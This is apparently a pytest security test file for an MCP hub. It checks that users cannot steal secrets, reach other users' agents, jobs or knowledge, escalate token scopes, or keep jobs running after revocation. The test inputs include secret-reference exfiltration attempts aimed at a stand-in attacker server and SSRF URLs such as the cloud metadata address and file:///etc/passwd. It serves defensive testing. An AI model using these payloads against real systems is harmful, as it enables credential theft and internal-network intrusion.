"""Attacks on what users create and on whose rights things run with, against a real hub in tokens mode: an
ordinary user trying to get a stored secret sent to their own server, to reach or repoint another user's agent,
job or knowledge, to make a job do more than the token that made it, and to keep a job running after its token
is revoked. Each test asserts what the attacker sees (a refusal, nothing at their server) and that the victim's
things still work."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest
from aiohttp import web
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError

from tests.fixtures.fake_llm import FakeLLM
from tests.helpers import (
    JUNCTION,
    ROOT,
    RunningHub,
    free_port,
    hub_env,
    junction_cli,
    remember_secret,
    serve_hub,
    set_secret,
    wait_until,
)

pytestmark = pytest.mark.anyio

GITHUB_TOKEN = "ghp_theVictimsGithubToken0123456789abcdef"


@dataclass
class Attacker:
    """A server of the attacker's: an OpenAI-compatible endpoint that keeps every request it gets."""

    url: str = ""
    seen: list[dict[str, Any]] = field(default_factory=list)
    runner: web.AppRunner | None = None

    async def handle(self, request: web.Request) -> web.Response:
        body = await request.text()
        self.seen.append({"headers": dict(request.headers), "body": body})
        model = json.loads(body).get("model") if body else ""
        if model == "leak-your-insides":
            return web.Response(status=500, text="Traceback: INTERNAL-ONLY db password is hunter2hunter2",
                                content_type="text/html")
        return web.json_response({"choices": [{"message": {"role": "assistant", "content": "thanks"}}],
                                  "model": model})


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
async def llm() -> AsyncIterator[FakeLLM]:
    async with FakeLLM() as server:
        yield server


@pytest.fixture(scope="module")
async def attacker() -> AsyncIterator[Attacker]:
    server = Attacker()
    app = web.Application()
    app.router.add_post("/v1/chat/completions", server.handle)
    server.runner = web.AppRunner(app)
    await server.runner.setup()
    port = free_port()
    await web.TCPSite(server.runner, "127.0.0.1", port).start()
    server.url = f"http://127.0.0.1:{port}/v1"
    yield server
    await server.runner.cleanup()



@dataclass
class Hub:
    running: RunningHub
    tmp: Path
    tokens: dict[str, str]

    def client(self, user: str, token: str | None = None) -> Client:
        http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {token or self.tokens[user]}"}, timeout=60)
        return Client(streamable_http_client(self.running.url, http_client=http), mode="2026-07-28")  # type: ignore[arg-type]

    def token(self, user: str, *extra: str) -> str:
        token = junction_cli(self.tmp, "token", "create", "--user", user, *extra)
        remember_secret(token)
        return token


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory, llm: FakeLLM, attacker: Attacker) -> Iterator[Hub]:
    tmp = tmp_path_factory.mktemp("trust")
    attacker_port = attacker.url.split(":")[2].split("/")[0]
    config = f"""
[server]
max_listens_per_user = 2
[auth]
mode = "tokens"
[auth.scopes]
"jobs" = ["automation__*"]
[providers.small]
module = "tests.fixtures.small_providers:EchoProvider"
[providers.automation]
[providers.rag]
sample = false
[providers.agents]
allow_custom_endpoints = true
[providers.agents.models.house]
base_url = "{llm.url}"
model = "default"
api_key = "${{secret:house_key}}"
allowed_models = ["*"]
[outbound]
# the attacker's server stands for one on the internet (nothing is, here): the policy lets the hub reach it
allowed_hosts = ["127.0.0.1:{attacker_port}"]
"""
    tmp.mkdir(parents=True, exist_ok=True)
    (tmp / "junction.toml").write_text(config)
    set_secret(tmp, "github_token", GITHUB_TOKEN)
    set_secret(tmp, "house_key", llm.api_key)
    for user, role in (("root", "admin"), ("alice", "user"), ("bob", "user")):
        junction_cli(tmp, "user", "add", user, "--role", role)
    tokens = {}
    for user in ("root", "alice", "bob"):
        tokens[user] = junction_cli(tmp, "token", "create", "--user", user)
        remember_secret(tokens[user])
    with serve_hub(tmp, config) as running:
        yield Hub(running, tmp, tokens)


async def call(client: Client, tool: str, **arguments: Any) -> Any:
    return await client.call_tool(tool, arguments)


def text(result: Any) -> str:
    return "\n".join(getattr(c, "text", "") for c in result.content)


# secrets never leave --------------------------------------------------------------------------------------------
async def test_an_agent_cannot_carry_a_stored_secret_to_the_callers_server(hub: Hub, attacker: Attacker) -> None:
    async with hub.client("alice") as alice:
        hook = await call(alice, "automation__create", name="alices-deploy", trigger={"type": "webhook"},
                          action={"tool": "small__echo", "arguments": {"text": "deploy"}})
        assert not hook.is_error, text(hook)
        remember_secret(hook.structured_content["webhook"]["secret"])
    async with hub.client("bob") as bob:
        for reference in ("${secret:github_token}", "${secret:automation.webhook.alices-deploy}", "${GITHUB_TOKEN}",
                          "${HOME}"):
            made = await call(bob, "agents__create", name="exfil", instructions="x", models=[
                {"backend": "openai", "base_url": attacker.url, "model": "m", "api_key": reference}])
            assert made.is_error and "agents made with tools carry no keys" in text(made), text(made)
        on_house = await call(bob, "agents__create", name="exfil", instructions="x",
                              models=[{"use": "house", "base_url": attacker.url}])
        assert on_house.is_error and "keeps the configured base_url" in text(on_house)
        # what bob may have: an endpoint of his own, without credentials
        made = await call(bob, "agents__create", name="exfil", instructions="x",
                          models=[{"backend": "openai", "base_url": attacker.url, "model": "m"}])
        assert not made.is_error, text(made)
        ran = await call(bob, "agents__exfil", message="hello")
        assert ran.structured_content["answer"] == "thanks"
    assert attacker.seen, "the agent did not reach the attacker's server at all (the test proves nothing)"
    for request in attacker.seen:
        seen = json.dumps(request)
        assert GITHUB_TOKEN not in seen and "house_key" not in seen
        assert "authorization" not in {k.lower() for k in request["headers"]}
    assert GITHUB_TOKEN not in hub.running.log()


async def test_a_callers_endpoint_on_an_internal_address_is_refused(hub: Hub, llm: FakeLLM) -> None:
    async with hub.client("bob") as bob:
        for url in (llm.url, "http://169.254.169.254/latest", "http://[::1]:9/v1", "http://2130706433/v1",
                    "file:///etc/passwd"):
            made = await call(bob, "agents__create", name="inside", instructions="x",
                              models=[{"backend": "openai", "base_url": url, "model": "m"}])
            assert made.is_error, url
            assert ("base_url" in text(made) and ("refused" in text(made) or "http(s)" in text(made)
                                                  or "not" in text(made))), (url, text(made))
        listed = await bob.list_tools()
        assert "agents__inside" not in {t.name for t in listed.tools}
    assert not llm.requests_for("m")


async def test_an_internal_error_body_does_not_come_back(hub: Hub, attacker: Attacker) -> None:
    async with hub.client("bob") as bob:
        made = await call(bob, "agents__create", name="prober", instructions="x",
                          models=[{"backend": "openai", "base_url": attacker.url, "model": "leak-your-insides"}])
        assert not made.is_error, text(made)
        ran = await call(bob, "agents__prober", message="hello")
    assert ran.is_error and "HTTP 500" in text(ran)
    everything = json.dumps(ran.model_dump(mode="json"))
    assert "INTERNAL-ONLY" not in everything and "hunter2" not in everything


async def test_an_agent_cannot_pose_as_a_configured_model(hub: Hub, llm: FakeLLM) -> None:
    """A second pass found these: a `name` set by the caller made a custom endpoint look like the admin's (no
    outbound check, its error text passed on), and `parameters` could replace the model the hub chose."""
    async with hub.client("bob") as bob:
        posing = await call(bob, "agents__create", name="poser", instructions="x", models=[
            {"backend": "openai", "base_url": llm.url + "/internal?x=", "model": "m", "name": "house"}])
        assert posing.is_error and "models[0].name: only a model the admin configured has that" in text(posing)
        widened = await call(bob, "agents__create", name="poser", instructions="x", models=[
            {"backend": "openai", "base_url": "http://example.test/v1", "model": "m", "allowed_models": ["*"]}])
        assert widened.is_error and "allowed_models" in text(widened)
        for field in ("model", "max_tokens", "tools", "messages"):
            swapped = await call(bob, "agents__create", name="poser", instructions="x", models=[
                {"use": "house", "model": "cheap", "parameters": {field: "gpt-5-pro"}}])
            assert swapped.is_error and f"parameters.{field}: set by the hub" in text(swapped), text(swapped)
    assert not llm.requests_for("gpt-5-pro")


async def test_an_admin_changing_a_users_job_does_not_lend_it_the_admins_rights(hub: Hub, llm: FakeLLM) -> None:
    async with hub.client("alice") as alice, hub.client("root") as root:
        made = await call(alice, "automation__create", name="alices-report", trigger={"type": "cron",
                                                                                      "cron": "0 7 * * *"},
                          action={"tool": "small__echo", "arguments": {"text": "report"}})
        assert not made.is_error, text(made)
        touched = await call(root, "automation__update", name="alices-report", description="checked by the admin")
        assert not touched.is_error, text(touched)
        escalate = await call(root, "automation__update", name="alices-report", action={"tool": "hub__audit"})
        assert escalate.is_error and "you may not call 'hub__audit'" in text(escalate), text(escalate)
        ran = await call(alice, "automation__run_now", name="alices-report", wait=True)
        assert not ran.is_error, text(ran)
    ours = "junction:automation/alices-report"
    rows = _audit(hub, "small__echo", wait_for=lambda rs: any(r[1] == ours for r in rs))
    assert [r[0] for r in rows if r[1] == ours] == ["alice"]  # still acting for alice, not the admin


async def test_a_listen_stream_hears_only_what_its_caller_may_read(hub: Hub) -> None:
    async with hub.client("alice") as alice:
        made = await call(alice, "automation__create", name="alices-listened", trigger={"type": "cron",
                                                                                        "cron": "0 8 * * *"},
                          action={"tool": "small__echo", "arguments": {"text": "x"}})
        assert not made.is_error, text(made)
    uri = "automation://jobs/alices-listened"
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream",
               "MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "subscriptions/listen"}
    meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {}}

    async def acknowledged(user: str, number: int) -> Any:
        body = {"jsonrpc": "2.0", "id": f"listen-{user}-{number}", "method": "subscriptions/listen", "params": {
            "notifications": {"resourceSubscriptions": [uri], "toolsListChanged": True}, "_meta": meta}}
        http = httpx2.AsyncClient(timeout=30, headers={**headers, "Authorization": f"Bearer {hub.tokens[user]}"})
        response = await http.send(http.build_request("POST", hub.running.url, json=body), stream=True)
        if response.headers.get("content-type", "").startswith("application/json"):
            answer = json.loads(await response.aread())
            await response.aclose()
            await http.aclose()
            return answer
        lines = response.aiter_lines()  # kept with the stream: closing it would end the stream (the client leaving)
        async for line in lines:
            if line.startswith("data:") and line[5:].strip():
                return (json.loads(line[5:]), response, http, lines)
        raise AssertionError("the listen stream ended without an acknowledgement")

    streams = []
    try:
        ack, *held = await acknowledged("bob", 1)
        streams.append(held)
        assert ack["method"] == "notifications/subscriptions/acknowledged"
        assert uri not in json.dumps(ack["params"]["notifications"])  # not honoured: bob may not read it
        ack, *held = await acknowledged("alice", 1)
        streams.append(held)
        assert ack["params"]["notifications"]["resourceSubscriptions"] == [uri]
        # one user cannot take every listen stream the hub has: at most max_listens_per_user (2 here)
        ack, *held = await acknowledged("bob", 2)
        streams.append(held)
        refused = await acknowledged("bob", 3)
        assert "error" in refused and "listen streams open, the most a user may have" in refused["error"]["message"]
        ack, *held = await acknowledged("alice", 2)  # alice still gets hers
        streams.append(held)
        assert ack["method"] == "notifications/subscriptions/acknowledged"
    finally:
        for response, http, _ in streams:
            await response.aclose()
            await http.aclose()


async def test_names_no_catalog_can_hold_are_refused_and_kept_short_on_record(hub: Hub) -> None:
    huge = "x" * 200_000
    async with hub.client("bob") as bob:
        with pytest.raises(MCPError, match="Unknown tool"):
            await call(bob, huge)
        with pytest.raises(MCPError):
            await bob.read_resource("rag://" + huge)
        assert not (await call(bob, "small__echo", text="still here")).is_error
    rows = _audit(hub, huge[:200] + "... (200000 characters)")
    assert rows and rows[0][0] == "bob"


async def test_a_namespace_the_config_no_longer_has_is_the_admins(tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "plan.md").write_text("# Plan\nThe merger closes in May.")
    config = """
[auth]
mode = "tokens"
[providers.rag]
sample = false
"""
    tmp_path.joinpath("junction.toml").write_text(config)
    junction_cli(tmp_path, "user", "add", "bob", "--role", "user")
    bob = junction_cli(tmp_path, "token", "create", "--user", "bob")
    remember_secret(bob)
    with serve_hub(tmp_path, config + f'[providers.rag.namespaces.old]\npaths = ["{folder}"]\n'):
        pass  # indexed, then taken out of the config
    with serve_hub(tmp_path, config) as running:
        http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {bob}"}, timeout=60)
        async with Client(streamable_http_client(running.url, http_client=http), mode="2026-07-28") as client:  # type: ignore[arg-type]
            refused = await client.call_tool("rag__delete_namespace", {"namespace": "old"})
            assert refused.is_error and "only an admin may change it" in text(refused), text(refused)
            kept = await client.call_tool("rag__stats", {"namespace": "old"})
            assert not kept.is_error


# owners -----------------------------------------------------------------------------------------------------------
async def test_nobody_reaches_another_users_agent(hub: Hub, llm: FakeLLM) -> None:
    llm.script("alices", [{"content": "alice's answer"}, {"content": "for the admin"}])
    llm.script("roots", [{"content": "root's answer"}])
    async with hub.client("alice") as alice, hub.client("bob") as bob, hub.client("root") as root:
        made = await call(alice, "agents__create", name="alices-helper", instructions="Help alice.",
                          models=[{"use": "house", "model": "alices"}])
        assert not made.is_error, text(made)
        first = await call(alice, "agents__alices-helper", message="hi")
        conversation = first.structured_content["conversation_id"]
        made = await call(root, "agents__create", name="roots-helper", instructions="Help root.",
                          tools=["hub__*"], models=[{"use": "house", "model": "roots"}])
        assert not made.is_error, text(made)

        names = {t.name for t in (await bob.list_tools()).tools}
        assert "agents__alices-helper" not in names and "agents__roots-helper" not in names
        assert "agents__alices-helper" in {t.name for t in (await alice.list_tools()).tools}
        for tool in ("agents__alices-helper", "agents__roots-helper"):
            with pytest.raises(MCPError, match=f"Unknown tool: {tool}"):
                await call(bob, tool, message="let me in")
            with pytest.raises(MCPError, match="Unknown prompt"):
                await bob.get_prompt(tool)
        for victim in ("alices-helper", "roots-helper"):
            repointed = await call(bob, "agents__update", name=victim, models=[{"use": "house", "model": "evil"}])
            assert repointed.is_error and f"no agent named '{victim}'" in text(repointed)
            deleted = await call(bob, "agents__delete", name=victim)
            assert deleted.is_error and f"no agent named '{victim}'" in text(deleted)
            with pytest.raises(MCPError):
                await bob.read_resource(f"agent://{victim}")
            talks = await call(bob, "agents__conversations", agent=victim)
            assert talks.is_error
        with pytest.raises(MCPError):
            await bob.read_resource(f"agent://alices-helper/conversations/{conversation}")
        exported = await call(bob, "agents__export", conversation_id=conversation)
        assert exported.is_error and "of yours" in text(exported)
        listed = (await call(bob, "agents__list")).structured_content["agents"]
        assert not {a["name"] for a in listed} & {"alices-helper", "roots-helper"}
        refused = await call(bob, "agents__list", all=True)
        assert refused.is_error and "only an admin" in text(refused)
        # the admin reaches everyone's; the owners' agents still work, unchanged
        every = (await call(root, "agents__list", all=True)).structured_content["agents"]
        assert {"alices-helper", "roots-helper"} <= {a["name"] for a in every}
        assert (await call(root, "agents__alices-helper", message="check")).structured_content["answer"] == \
            "for the admin"
        assert (await call(root, "agents__roots-helper", message="hi")).structured_content["answer"] == "root's answer"
    assert not llm.requests_for("evil")


async def test_nobody_reaches_another_users_job(hub: Hub) -> None:
    async with hub.client("alice") as alice, hub.client("bob") as bob, hub.client("root") as root:
        made = await call(alice, "automation__create", name="alices-nightly",
                          trigger={"type": "cron", "cron": "0 3 * * *"},
                          action={"tool": "small__echo", "arguments": {"text": "alice's secret plan"}})
        assert not made.is_error, text(made)
        ran = await call(alice, "automation__run_now", name="alices-nightly", wait=True)
        assert not ran.is_error, text(ran)
        for tool, extra in (("get", {}), ("runs", {}), ("pause", {}), ("resume", {}), ("run_now", {}),
                            ("delete", {}), ("update", {"action": {"tool": "small__echo"}})):
            refused = await call(bob, f"automation__{tool}", name="alices-nightly", **extra)
            assert refused.is_error and "no job named 'alices-nightly'" in text(refused), (tool, text(refused))
            assert "secret plan" not in text(refused)
        taken = await call(bob, "automation__create", name="alices-nightly", trigger={"type": "start"},
                           action={"tool": "small__echo"})
        assert taken.is_error and "is taken" in text(taken) and "use update" not in text(taken)
        assert "alices-nightly" not in {j["name"] for j in (await call(bob, "automation__list")).structured_content[
            "jobs"]}
        with pytest.raises(MCPError):
            await bob.read_resource("automation://jobs/alices-nightly")
        assert "automation://jobs/alices-nightly" not in {str(r.uri) for r in (await bob.list_resources()).resources}
        # still alice's, and the admin's to see
        runs = (await call(alice, "automation__runs", name="alices-nightly")).structured_content["runs"]
        assert [r["status"] for r in runs] == ["ok"]
        every = (await call(root, "automation__list", all=True)).structured_content["jobs"]
        assert "alices-nightly" in {j["name"] for j in every}
        assert not (await call(root, "automation__get", name="alices-nightly")).is_error


async def test_nobody_reaches_another_users_knowledge(hub: Hub) -> None:
    async with hub.client("alice") as alice, hub.client("bob") as bob, hub.client("root") as root:
        assert not (await call(alice, "rag__create_namespace", namespace="alices-notes")).is_error
        ingested = await call(alice, "rag__ingest", namespace="alices-notes",
                              text="The vault code is seven-three-nine, said the quartermaster.")
        assert not ingested.is_error, text(ingested)
        found = await call(alice, "rag__search", query="vault code quartermaster")
        assert "seven-three-nine" in json.dumps(found.structured_content)
        everywhere = await call(bob, "rag__search", query="vault code quartermaster")
        assert "seven-three-nine" not in json.dumps(everywhere.model_dump(mode="json"))
        for tool, extra in (("search", {"namespaces": ["alices-notes"], "query": "vault"}),
                            ("ingest", {"namespace": "alices-notes", "text": "planted"}),
                            ("delete", {"namespace": "alices-notes", "key": "x"}), ("stats", {"namespace": "alices-notes"}),
                            ("delete_namespace", {"namespace": "alices-notes"})):
            refused = await call(bob, f"rag__{tool}", **extra)
            assert refused.is_error and "no namespace named 'alices-notes'" in text(refused), (tool, text(refused))
        with pytest.raises(MCPError):
            await bob.read_resource("rag://alices-notes")
        assert "alices-notes" not in json.dumps((await call(bob, "rag__list_namespaces")).structured_content)
        # the admin sees it; alice's namespace still holds only what she put in
        assert "seven-three-nine" in json.dumps((await call(root, "rag__search", namespaces=["alices-notes"],
                                                            query="vault code")).structured_content)
        stats = (await call(alice, "rag__stats", namespace="alices-notes")).structured_content
        assert stats["documents"] == 1


# acting for someone -------------------------------------------------------------------------------------------------
async def test_a_job_has_only_the_scopes_of_the_token_that_made_it(hub: Hub) -> None:
    jobs_only = hub.token("root", "--scopes", "jobs")
    async with hub.client("root", jobs_only) as narrow:
        for tool in ("hub__audit", "small__echo", "rag__ingest"):
            made = await call(narrow, "automation__create", name="overreach", trigger={"type": "start"},
                              action={"tool": tool, "arguments": {}})
            assert made.is_error and f"you may not call {tool!r}" in text(made), text(made)
        made = await call(narrow, "automation__create", name="within-scope", trigger={"type": "cron", "cron": "0 4 * * *"},
                          action={"tool": "automation__list"})
        assert not made.is_error, text(made)
        ran = await call(narrow, "automation__run_now", name="within-scope", wait=True)
        assert not ran.is_error, text(ran)
    # the job runs with that token's scopes, not with the admin role's: its calls are on record as such
    ours = "junction:automation/within-scope"
    rows = [r for r in _audit(hub, "automation__list", wait_for=lambda rs: any(r[1] == ours for r in rs))
            if r[1] == ours]
    assert rows and all(r[0] == "root" and r[2] == "ok" for r in rows)
    # (read now: the records above are on disk, and an overreaching job was never made, so there is nothing to wait
    # for; waiting for rows that must not exist would only wait out the timeout)
    now = _audit(hub, "hub__audit", wait_for=lambda rows: True)
    assert not [r for r in now if r[1] == "junction:automation/overreach"]


async def test_a_revoked_token_stops_its_jobs(hub: Hub) -> None:
    token = hub.token("alice", "--name", "laptop")
    token_id = token.split("_")[1]
    async with hub.client("alice", token) as laptop:
        made = await call(laptop, "automation__create", name="laptop-job", trigger={"type": "cron", "cron": "0 5 * * *"},
                          action={"tool": "small__echo", "arguments": {"text": "from the laptop"}})
        assert not made.is_error, text(made)
        assert not (await call(laptop, "automation__run_now", name="laptop-job", wait=True)).is_error
    junction_cli(hub.tmp, "token", "revoke", token_id)
    async with hub.client("alice") as alice:  # another of alice's tokens
        ran = await call(alice, "automation__run_now", name="laptop-job", wait=True)
        assert ran.is_error
        assert ran.structured_content["status"] == "denied"
        assert f"the API token {token_id} of 'alice' that made it was revoked" in ran.structured_content["error"]
        job = (await call(alice, "automation__get", name="laptop-job")).structured_content
        assert job["paused"] is True and [r["status"] for r in job["runs"]][:2] == ["denied", "ok"]
        # changing it makes it act for the token that changed it: it runs again
        changed = await call(alice, "automation__update", name="laptop-job",
                             action={"tool": "small__echo", "arguments": {"text": "from alice's other token"}})
        assert not changed.is_error, text(changed)
        assert not (await call(alice, "automation__resume", name="laptop-job")).is_error
        again = await call(alice, "automation__run_now", name="laptop-job", wait=True)
        assert not again.is_error and again.structured_content["status"] == "ok"


async def test_a_removed_user_stops_their_jobs(hub: Hub) -> None:
    junction_cli(hub.tmp, "user", "add", "carol", "--role", "user")
    carol = hub.token("carol")
    async with hub.client("carol", carol) as client:
        made = await call(client, "automation__create", name="carols-job", trigger={"type": "cron", "cron": "0 6 * * *"},
                          action={"tool": "small__echo", "arguments": {"text": "carol"}})
        assert not made.is_error, text(made)
    junction_cli(hub.tmp, "user", "remove", "carol")
    async with hub.client("root") as root:
        ran = await call(root, "automation__run_now", name="carols-job", wait=True)
        assert ran.structured_content["status"] == "denied"
        assert "'carol' is no longer a user" in ran.structured_content["error"] or \
            "carol" in ran.structured_content["error"]
    records = _audit(hub, "small__echo", wait_for=lambda rows: True)  # its run was denied: nothing to wait for
    assert not [r for r in records if r[1] == "junction:automation/carols-job" and r[2] == "ok"]


# a caller's bytes never cost an audit row ----------------------------------------------------------------------------
async def test_a_call_with_a_lone_surrogate_is_on_record(hub: Hub, llm: FakeLLM) -> None:
    llm.script("surrogates", [{"tool_calls": [{"name": "small__echo", "arguments": {"text": "half \ud800 a pair"}}]},
                              {"content": "done"}])
    async with hub.client("bob") as bob:
        made = await call(bob, "agents__create", name="odd-text", instructions="Echo.", tools=["small__echo"],
                          models=[{"use": "house", "model": "surrogates"}])
        assert not made.is_error, text(made)
        ran = await call(bob, "agents__odd-text", message="go")
        assert ran.structured_content["answer"] == "done", text(ran)
    rows = _audit(hub, "small__echo", wait_for=lambda rs: any(r[1] == "junction:agent/agents__odd-text" for r in rs))
    mine = [r for r in rows if r[1] == "junction:agent/agents__odd-text"]
    assert mine and mine[-1][0] == "bob" and mine[-1][2] == "ok" and mine[-1][3] > 0


def _audit(hub: Hub, tool: str, wait_for: Any = None, timeout: float = 30.0) -> list[tuple]:
    """(principal, client, outcome, args_bytes) of the hub's records of `tool` (call records reach the disk in
    batches: wait for what is expected)."""
    rows: list[tuple] = []

    def expected() -> bool:
        db = sqlite3.connect(hub.running.data_dir / "junction.db")
        try:
            rows[:] = db.execute("SELECT principal, client, outcome, args_bytes FROM tool_calls WHERE tool = ? "
                                 "ORDER BY id", (tool,)).fetchall()
        finally:
            db.close()
        return bool(wait_for(rows) if wait_for is not None else rows)

    try:
        wait_until(expected, f"the expected records of {tool}", timeout, interval=0.1)
    except AssertionError:
        pass  # the caller's assertion on the rows says what is missing
    return list(rows)


# one bad input never takes the hub down -----------------------------------------------------------------------------
async def test_a_provider_that_fails_turns_readyz_503_and_the_rest_serves(tmp_path: Path) -> None:
    config = """
[providers.flaky]
module = "tests.fixtures.small_providers:FailingBackground"
[providers.small]
module = "tests.fixtures.small_providers:EchoProvider"
"""
    with serve_hub(tmp_path, config) as running:
        def not_ready() -> httpx2.Response | None:
            ready = httpx2.get(running.base + "/readyz", timeout=10)
            return ready if ready.status_code == 503 else None

        ready = wait_until(not_ready, "/readyz to answer 503", 30, interval=0.1)
        assert ready.json()["status"] == "provider down: flaky", ready.text
        async with Client(running.url, mode="2026-07-28") as client:
            answer = await client.call_tool("small__echo", {"text": "still here"})
            assert text(answer) == "hello still here"
            status = await client.call_tool("hub__status", {})
            assert "the watcher tripped over something" in json.dumps(status.model_dump(mode="json"))
        assert "a background task of provider 'flaky'" in running.log()


async def test_stdio_reads_with_the_same_strict_parser(tmp_path: Path) -> None:
    import subprocess

    (tmp_path / "junction.toml").write_text("[providers.rag]\nenabled = false\n")
    process = subprocess.Popen([*JUNCTION, "stdio", "--config", str(tmp_path / "junction.toml")], cwd=ROOT,
                               env=hub_env(tmp_path / "data"),
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdin is not None and process.stdout is not None
    try:
        lines = [b'{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"x":NaN}}',
                 b'\xef\xbb\xbf{"jsonrpc":"2.0","id":2,"method":"tools/list"}',
                 b'{"jsonrpc":"2.0","id":3,"method":"initialize","params":{"protocolVersion":"2025-11-25",'
                 b'"capabilities":{},"clientInfo":{"name":"t","version":"1"}}}']
        process.stdin.write(b"\n".join(lines) + b"\n")
        process.stdin.flush()
        answers = []
        with anyio.fail_after(60):
            while len(answers) < 3:
                line = await anyio.to_thread.run_sync(process.stdout.readline)
                assert line, process.stderr.read().decode() if process.poll() is not None else "stdout closed"
                answers.append(json.loads(line))
        by_id = {a.get("id"): a for a in answers}
        errors = [a["error"] for a in answers if "error" in a]
        assert len(errors) == 2 and all(e["code"] == -32700 for e in errors), answers
        assert any("byte-order mark" in e["message"] for e in errors)
        assert by_id[3]["result"]["serverInfo"]["name"] == "junction"
    finally:
        process.kill()
        process.wait(10)
